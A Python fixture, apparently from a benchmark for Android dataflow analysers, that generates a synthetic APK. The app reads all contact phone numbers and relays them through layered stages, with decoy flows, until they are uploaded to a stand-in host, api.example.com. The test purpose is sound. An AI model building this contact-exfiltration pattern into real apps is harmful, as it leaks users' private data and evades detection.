"""An app whose contacts go a long way: one read, a number of stages one behind another, an upload at the end."""

from bench.contact_code import PACKAGE, build_bench_manifest
from support.apkfile import build_apk
from support.dexfile import ABSTRACT, INTERFACE, OBJECT, PUBLIC, STATIC, Class, Field, Method, assemble
from support.instructions import Code

STAGE_STEPS = 7
"""Things that one stage does with the data: two helpers, a bean, a list, an interface, a static field, a callback."""

_POOL = "Ljava/util/concurrent/Executors;->newCachedThreadPool()Ljava/util/concurrent/ExecutorService;"
_STRING = "Ljava/lang/String;"
_ACTIVITY = f"L{PACKAGE.replace('.', '/')}/MainActivity;"
_HUB = "Lf/i;"
_SHARED, _UPLOADER = "Lf/w;", "Lf/u;"
_PHONES = "Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;"
_QUERY = (
    "Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;"
    "[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;"
)
_SAME = f"invoke-virtual {{p0}}, {_STRING}->trim(){_STRING}\nmove-result-object v0\nreturn-object v0"
_INIT_TEXT = f"invoke-direct {{p0}}, {OBJECT}-><init>()V"
_INIT = Method("<init>", "()V", PUBLIC, Code(1, f"{_INIT_TEXT}\nreturn-void"))
_UPLOAD = f"""
    new-instance v0, Ljava/net/URL;
    const-string v1, "https://api.example.com/book"
    invoke-direct {{v0, v1}}, Ljava/net/URL;-><init>({_STRING})V
    invoke-virtual {{v0}}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v0
    invoke-virtual {{v0}}, Ljava/net/URLConnection;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v0
    invoke-virtual {{p0}}, {_STRING}->getBytes()[B
    move-result-object v1
    invoke-virtual {{v0, v1}}, Ljava/io/OutputStream;->write([B)V
    return-void
"""


def build_flow_app(stages: int) -> tuple[bytes, int]:
    """The APK, and the size of its DEX file in bytes.

    In it one flow is true, of phone numbers to the network. Each stage has a decoy that puts a text of its own through
    the same classes and uploads it, and the numbers of the last stage but one are shown on the screen as well.
    """
    classes = [_hub(), _shared(), _uploader(), *(each for number in range(stages) for each in _stage(number, stages))]
    dex = assemble([*classes, _activity()])
    return build_apk(dex=[dex], manifest=build_bench_manifest()), len(dex)


def _hub() -> Class:
    method = Method("a", f"({OBJECT}){OBJECT}", PUBLIC | ABSTRACT)
    return Class(_HUB, [method], flags=PUBLIC | INTERFACE | ABSTRACT)


def _shared() -> Class:
    """A helper that everybody calls."""
    return Class(_SHARED, [Method("a", f"({_STRING}){_STRING}", PUBLIC | STATIC, Code(2, _SAME))])


def _uploader() -> Class:
    return Class(_UPLOADER, [Method("a", f"({_STRING})V", PUBLIC | STATIC, Code(3, _UPLOAD))])


def _stage(number: int, stages: int) -> list[Class]:
    following = f"Lf/m{number + 1};->a({_STRING})V" if number + 1 < stages else f"{_UPLOADER}->a({_STRING})V"
    decoy = f"invoke-static {{}}, Lf/d{number + 1};->a()V" if number + 1 < stages else "nop"
    return [
        Class(f"Lf/h{number};", [Method("a", f"({_STRING}){_STRING}", PUBLIC | STATIC, Code(2, _SAME))]),
        _bean(f"Lf/b{number};"),
        _implementer(f"Lf/i{number};"),
        _callback(f"Lf/r{number};", following),
        Class(f"Lf/s{number};", [], [Field("a", _STRING, PUBLIC | STATIC)]),
        Class(f"Lf/m{number};", [Method("a", f"({_STRING})V", PUBLIC | STATIC, Code(4, _steps(number)))]),
        Class(f"Lf/d{number};", [Method("a", "()V", PUBLIC | STATIC, Code(3, _decoy(number, decoy)))]),
    ]


def _bean(name: str) -> Class:
    field = f"{name}->a:{_STRING}"
    setter, getter = f"iput-object p1, p0, {field}\nreturn-void", f"iget-object v0, p0, {field}\nreturn-object v0"
    methods = [
        _INIT,
        Method("a", f"({_STRING})V", PUBLIC, Code(2, setter)),
        Method("a", f"(){_STRING}", PUBLIC, Code(2, getter)),
    ]
    return Class(name, methods, [Field("a", _STRING)])


def _implementer(name: str) -> Class:
    method = Method("a", f"({OBJECT}){OBJECT}", PUBLIC, Code(2, "return-object p1"))
    return Class(name, [_INIT, method], interfaces=[_HUB])


def _callback(name: str, following: str) -> Class:
    field = f"{name}->a:{_STRING}"
    init = Code(2, f"{_INIT_TEXT}\niput-object p1, p0, {field}\nreturn-void")
    run = Code(2, f"iget-object v0, p0, {field}\ninvoke-static {{v0}}, {following}\nreturn-void")
    methods = [Method("<init>", f"({_STRING})V", PUBLIC, init), Method("run", "()V", PUBLIC, run)]
    return Class(name, methods, [Field("a", _STRING)], interfaces=["Ljava/lang/Runnable;"])


def _steps(number: int) -> str:
    return f"""
        invoke-static {{p0}}, Lf/h{number};->a({_STRING}){_STRING}
        move-result-object v0
        invoke-static {{v0}}, {_SHARED}->a({_STRING}){_STRING}
        move-result-object v0
        new-instance v1, Lf/b{number};
        invoke-direct {{v1}}, Lf/b{number};-><init>()V
        invoke-virtual {{v1, v0}}, Lf/b{number};->a({_STRING})V
        invoke-virtual {{v1}}, Lf/b{number};->a(){_STRING}
        move-result-object v0
        new-instance v1, Ljava/util/ArrayList;
        invoke-direct {{v1}}, Ljava/util/ArrayList;-><init>()V
        invoke-interface {{v1, v0}}, Ljava/util/List;->add({OBJECT})Z
        const/4 v2, 0
        invoke-interface {{v1, v2}}, Ljava/util/List;->get(I){OBJECT}
        move-result-object v0
        new-instance v1, Lf/i{number};
        invoke-direct {{v1}}, Lf/i{number};-><init>()V
        invoke-interface {{v1, v0}}, {_HUB}->a({OBJECT}){OBJECT}
        move-result-object v0
        check-cast v0, {_STRING}
        sput-object v0, Lf/s{number};->a:{_STRING}
        sget-object v0, Lf/s{number};->a:{_STRING}
        new-instance v1, Lf/r{number};
        invoke-direct {{v1, v0}}, Lf/r{number};-><init>({_STRING})V
        invoke-static {{}}, {_POOL}
        move-result-object v0
        invoke-interface {{v0, v1}}, Ljava/util/concurrent/Executor;->execute(Ljava/lang/Runnable;)V
        return-void
    """


def _decoy(number: int, following: str) -> str:
    return f"""
        const-string v0, "rate {number}"
        invoke-static {{v0}}, Lf/h{number};->a({_STRING}){_STRING}
        move-result-object v0
        invoke-static {{v0}}, {_SHARED}->a({_STRING}){_STRING}
        move-result-object v0
        new-instance v1, Lf/b{number};
        invoke-direct {{v1}}, Lf/b{number};-><init>()V
        invoke-virtual {{v1, v0}}, Lf/b{number};->a({_STRING})V
        invoke-virtual {{v1}}, Lf/b{number};->a(){_STRING}
        move-result-object v0
        new-instance v1, Lf/i{number};
        invoke-direct {{v1}}, Lf/i{number};-><init>()V
        invoke-interface {{v1, v0}}, {_HUB}->a({OBJECT}){OBJECT}
        move-result-object v0
        check-cast v0, {_STRING}
        invoke-static {{v0}}, {_UPLOADER}->a({_STRING})V
        {following}
        return-void
    """


def _activity() -> Class:
    init = Code(1, "invoke-direct {p0}, Landroid/app/Activity;-><init>()V\nreturn-void")
    on_create = f"""
        invoke-super {{p0, p1}}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
        invoke-static {{}}, Lf/d0;->a()V
        invoke-virtual {{p0}}, Landroid/content/Context;->getContentResolver()Landroid/content/ContentResolver;
        move-result-object v0
        sget-object v1, {_PHONES}
        const/4 v2, 0
        const/4 v3, 0
        const/4 v4, 0
        const/4 v5, 0
        invoke-virtual/range {{v0 .. v5}}, {_QUERY}
        move-result-object v0
        :again
        invoke-interface {{v0}}, Landroid/database/Cursor;->moveToNext()Z
        move-result v1
        if-eqz v1, :end
        const-string v1, "data1"
        invoke-interface {{v0, v1}}, Landroid/database/Cursor;->getColumnIndex(Ljava/lang/String;)I
        move-result v1
        invoke-interface {{v0, v1}}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
        move-result-object v1
        invoke-static {{v1}}, Lf/m0;->a({_STRING})V
        goto :again
        :end
        return-void
    """
    methods = [
        Method("<init>", "()V", PUBLIC, init),
        Method("onCreate", "(Landroid/os/Bundle;)V", PUBLIC, Code(8, on_create)),
    ]
    return Class(_ACTIVITY, methods, superclass="Landroid/app/Activity;")
